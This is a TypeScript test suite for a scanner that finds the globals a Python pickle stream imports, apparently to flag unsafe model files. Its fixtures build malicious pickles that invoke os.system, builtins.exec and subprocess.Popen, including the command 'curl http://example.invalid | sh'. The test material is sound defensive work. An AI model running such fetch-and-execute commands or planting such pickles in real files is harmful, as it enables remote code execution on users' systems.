import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import {
  benignStateDictPickle,
  buildPickle,
  maliciousPickleGlobal,
  maliciousPickleStackGlobal,
  op,
} from '../../ingest/scan/build.ts';
import { PickleWalker, scanPickle as walk, UNRESOLVED_GLOBAL, type PickleScanOptions } from '../../ingest/scan/pickle-scan.ts';

/** The walk's result with its break and limit as a list of messages (empty for a clean, complete stream). */
function scanPickle(buf: Uint8Array, opts?: PickleScanOptions) {
  const r = walk(buf, opts);
  return { ...r, errors: [...(r.broke ? [r.broke.message] : []), ...(r.limitReached ? [r.limitReached] : [])] };
}
import { ascii, concatBytes } from './helpers.ts';

describe('scanPickle on the builders', () => {
  it('lists the globals of a torch-style state dict, in first-seen order, once each', () => {
    const r = scanPickle(benignStateDictPickle(['a', 'b', 'c']));
    assert.deepEqual(r.globals, ['collections.OrderedDict', 'torch._utils._rebuild_tensor_v2', 'torch.FloatStorage']);
    assert.deepEqual(r.errors, []);
    assert.equal(r.completePickles, 1);
  });

  it('resolves STACK_GLOBAL whose operands come from the memo (os.system)', () => {
    const r = scanPickle(maliciousPickleStackGlobal('curl http://example.invalid | sh'));
    assert.deepEqual(r.globals, ['os.system']);
    assert.deepEqual(r.errors, []);
  });

  it('reads GLOBAL in protocol 0 (builtins.exec)', () => {
    const r = scanPickle(maliciousPickleGlobal());
    assert.deepEqual(r.globals, ['builtins.exec']);
    assert.deepEqual(r.errors, []);
  });
});

describe('scanPickle: names repeated across a long stream', () => {
  it('every distinct GLOBAL and INST is listed however often the others repeat, one byte apart or split across pushes', () => {
    // more distinct names than the walker remembers by their bytes, in turn, then names that differ from them by a byte
    const modules = Array.from({ length: 20 }, (_, i) => `pkg${i}.sub`);
    const ops: Uint8Array[] = [op.proto(2)];
    for (let round = 0; round < 50; round++) for (const m of modules) ops.push(op.global(m, 'f'), op.pop());
    ops.push(op.global('pkg1.sub', 'g'), op.pop(), op.global('pkg1.suc', 'f'), op.pop(), op.global('os', 'system'), op.pop());
    ops.push(ascii('(ipkg2.sub\nf\n'), op.pop(), ascii('(ipkg2.sub\nh\n'), op.pop(), op.emptyDict(), op.stop());
    const bytes = buildPickle(ops);
    const want = [...modules.map((m) => `${m}.f`), 'pkg1.sub.g', 'pkg1.suc.f', 'os.system', 'pkg2.sub.h'];
    assert.deepEqual(scanPickle(bytes).globals, want);
    const walker = new PickleWalker();
    for (let i = 0; i < bytes.length; i += 7) walker.push(bytes.slice(i, i + 7));
    const r = walker.end();
    assert.deepEqual(r.globals, want);
    assert.equal(r.completePickles, 1);
  });
});

describe('scanPickle on hand-written opcodes', () => {
  it('reads INST (module and name as text lines)', () => {
    const r = scanPickle(ascii("(S'ls'\nios\nsystem\n."));
    assert.deepEqual(r.globals, ['os.system']);
    assert.deepEqual(r.errors, []);
  });

  it('resolves STACK_GLOBAL through protocol-0 PUT/GET and escaped STRING operands', () => {
    // 'o\x73' is "os" written with an escape; the names reach STACK_GLOBAL only through the memo.
    const bytes = concatBytes(ascii("S'o\\x73'\np0\n0Vsystem\np1\n0g0\ng1\n"), Uint8Array.of(0x93), ascii(')R.'));
    const ok = scanPickle(bytes);
    assert.deepEqual(ok.globals, ['os.system']);
    assert.deepEqual(ok.errors, []);
  });

  it('resolves LONG_BINPUT/LONG_BINGET and BINUNICODE operands', () => {
    const bytes = buildPickle([
      op.proto(2),
      op.binunicode('subprocess'), Uint8Array.of(0x72, 7, 0, 0, 0), op.pop(), // LONG_BINPUT 7
      op.binunicode('Popen'), op.binput(3),
      Uint8Array.of(0x6a, 7, 0, 0, 0), // LONG_BINGET 7
      op.binget(3), op.stackGlobal(), op.pop(),
      op.stop(),
    ]);
    const r = scanPickle(bytes);
    assert.deepEqual(r.globals, ['subprocess.Popen']);
    assert.deepEqual(r.errors, []);
  });

  it('records unknown.unknown when STACK_GLOBAL operands are not known strings', () => {
    const bytes = buildPickle([op.proto(4), op.binint1(1), op.unicode('system'), op.stackGlobal(), op.stop()]);
    assert.deepEqual(scanPickle(bytes).globals, [UNRESOLVED_GLOBAL]);
    // a bytes object is not a str: Python refuses it, and so do we
    const asBytes = buildPickle([op.proto(4), Uint8Array.of(0x43, 2), ascii('os'), op.unicode('system'), op.stackGlobal(), op.stop()]);
    assert.deepEqual(scanPickle(asBytes).globals, [UNRESOLVED_GLOBAL]);
  });

  it('treats a string too long to be a name as unknown (STACK_GLOBAL → unknown.unknown)', () => {
    const long = buildPickle([op.proto(4), op.unicode('os'), op.unicode('s'.repeat(2000)), op.stackGlobal(), op.stop()]);
    assert.deepEqual(scanPickle(long).globals, [UNRESOLVED_GLOBAL]);
  });

  it('records unknown.unknown for extension-registry opcodes (EXT1)', () => {
    assert.deepEqual(scanPickle(buildPickle([op.proto(2), Uint8Array.of(0x82, 1), op.stop()])).globals, [UNRESOLVED_GLOBAL]);
  });

  it('keeps reading after STOP: concatenated pickles, each with its own memo', () => {
    const bytes = concatBytes(benignStateDictPickle(), maliciousPickleStackGlobal('id'), maliciousPickleGlobal());
    const r = scanPickle(bytes);
    assert.deepEqual(r.globals, [
      'collections.OrderedDict', 'torch._utils._rebuild_tensor_v2', 'torch.FloatStorage', 'os.system', 'builtins.exec',
    ]);
    assert.equal(r.completePickles, 3);
    assert.deepEqual(r.errors, []);
    // the memo does not survive STOP: BINGET 0 in a second pickle finds nothing, and CPython's load stops there
    // (KeyError) — inside that pickle, so it is a break, not trailing data
    const second = scanPickle(concatBytes(maliciousPickleStackGlobal('id'), buildPickle([op.proto(4), op.binget(0), op.pop(), op.stop()])));
    assert.match(second.errors.join('\n'), /memo value not found: BINGET/);
    assert.equal(second.completePickles, 1);
    assert.equal(second.broke?.atPickleStart, false);
    assert.deepEqual(second.globals, ['os.system'], 'the first pickle\'s globals are kept');
  });
});

describe('scanPickle on bad input', () => {
  it('truncated input: error, but the globals found so far are kept', () => {
    const full = maliciousPickleGlobal();
    const r = scanPickle(full.subarray(0, full.length - 6));
    assert.deepEqual(r.globals, ['builtins.exec']);
    assert.equal(r.completePickles, 0);
    assert.match(r.errors.join('\n'), /truncated/);
  });

  it('a stream that simply ends before STOP is reported as truncated', () => {
    const full = benignStateDictPickle();
    const r = scanPickle(full.subarray(0, full.length - 1));
    assert.match(r.errors.join('\n'), /ends before STOP/);
    assert.equal(r.globals.length, 3);
  });

  it('an unknown opcode stops the walk with an error naming it', () => {
    const bytes = buildPickle([op.proto(2), op.global('os', 'system'), Uint8Array.of(0xff), op.global('posix', 'system'), op.stop()]);
    const r = scanPickle(bytes);
    assert.deepEqual(r.globals, ['os.system']);
    assert.match(r.errors[0] ?? '', /unknown opcode 0xff at offset 13/);
  });

  it('huge claimed lengths are truncation, not allocation', () => {
    const huge8 = buildPickle([op.proto(4), Uint8Array.of(0x8d, 0, 0, 0, 0, 0, 0, 0, 0x10), ascii('x')]); // BINUNICODE8 2^60
    const huge4 = buildPickle([op.proto(3), Uint8Array.of(0x42, 0xff, 0xff, 0xff, 0xff), ascii('x')]); // BINBYTES 4 GiB
    const negative = buildPickle([op.proto(2), Uint8Array.of(0x54, 0xff, 0xff, 0xff, 0xff)]); // BINSTRING -1
    for (const b of [huge8, huge4]) assert.match(scanPickle(b).errors.join('\n'), /truncated/);
    assert.match(scanPickle(negative).errors.join('\n'), /negative length/);
    const frame = buildPickle([op.proto(4), op.frame(2 ** 50), op.global('os', 'system'), op.stop()]);
    assert.deepEqual(scanPickle(frame).globals, ['os.system'], 'a lying FRAME length is only a hint');
  });

  it('stops at maxOpcodes and says so', () => {
    const many = buildPickle([op.proto(2), ...Array.from({ length: 1000 }, () => Uint8Array.of(0x4e, 0x30)), op.stop()]); // NONE POP
    const r = scanPickle(many, { maxOpcodes: 100 });
    assert.match(r.limitReached ?? '', /opcode limit of 100/);
    assert.equal(r.opcodes, 100);
    assert.match(r.errors.join('\n'), /opcode limit of 100/);
    assert.equal(scanPickle(many).limitReached, undefined);
  });

  it('a stack underflow or a missing MARK ends the walk there, as it ends CPython\'s load; what came before is kept', () => {
    const underflow = scanPickle(buildPickle([op.proto(2), op.global('os', 'system'), op.reduce(), op.global('builtins', 'exec'), op.stop()]));
    assert.match(underflow.errors.join('\n'), /unpickling stack underflow: REDUCE at offset 13/);
    assert.deepEqual(underflow.globals, ['os.system'], 'the global before the break is kept; nothing after it is walked');
    assert.equal(underflow.broke?.atPickleStart, false);
    const noMark = scanPickle(buildPickle([op.proto(2), op.tuple(), op.global('os', 'system'), op.stop()]));
    assert.match(noMark.errors.join('\n'), /could not find MARK: TUPLE at offset 2/);
    assert.deepEqual(noMark.globals, []);
  });

  it('never throws on random or mutated input', () => {
    let seed = 12345;
    const rand = () => ((seed = (seed * 1103515245 + 12345) & 0x7fffffff) / 0x7fffffff);
    const seeds = [benignStateDictPickle(), maliciousPickleStackGlobal('id'), maliciousPickleGlobal()];
    for (let i = 0; i < 3000; i++) {
      let b: Uint8Array;
      if (i % 2 === 0) {
        b = Uint8Array.from({ length: Math.floor(rand() * 200) }, () => Math.floor(rand() * 256));
      } else {
        b = seeds[i % 3]!.slice();
        for (let k = 0; k < 3; k++) b[Math.floor(rand() * b.length)] = Math.floor(rand() * 256);
      }
      const r = scanPickle(b, { maxOpcodes: 10_000 });
      assert.ok(Array.isArray(r.globals) && Array.isArray(r.errors));
    }
  });
});
